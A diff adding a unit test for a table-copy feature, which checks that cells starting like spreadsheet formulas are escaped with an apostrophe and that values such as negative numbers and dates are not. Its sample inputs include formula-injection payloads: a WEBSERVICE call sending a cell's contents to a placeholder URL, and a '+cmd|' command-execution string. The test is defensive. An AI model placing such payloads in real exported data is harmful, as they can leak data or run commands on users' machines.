@@ -47,6 +47,18 @@ describe('a table of texts', () => {
     assert.equal(copy(0, 1, 0, 1), '"a\tb"\t\n"say ""x"""\ty');
     assert.equal(copy(5, 5, 5, 5), '');
   });
+
+  it('is no formula for a spreadsheet, unless it is wanted letter by letter', () => {
+    const formulas = ['=WEBSERVICE("https://x/?"&A1)', '+cmd|x', '-2+3', '@SUM(A1)', ' =1', '\t=1', '|x'];
+    const harmless = ['-5', '+1.5e3', '-.5', "'=1", 'a=1', '', '2024-01-01'];
+    const range = { firstRow: 0, lastRow: 0, firstColumn: 0, lastColumn: formulas.length + harmless.length - 1 };
+    const unquoted = (text: string) => (/^"[^]*"$/.test(text) ? text.slice(1, -1).replaceAll('""', '"') : text);
+    const cells = copiedCells([[...formulas, ...harmless]], range)
+      .match(/"(?:[^"]|"")*"|[^\t]+|(?<=\t)(?=\t)/g)
+      ?.map(unquoted);
+    assert.deepEqual(cells, [...formulas.map((text) => `'${text}`), ...harmless]);
+    assert.equal(copiedCells([['=1', 'x']], { firstRow: 0, lastRow: 0, firstColumn: 0, lastColumn: 1 }, true), '=1\tx');
+  });
 });
 
 describe('JSON Lines as a table', () => {
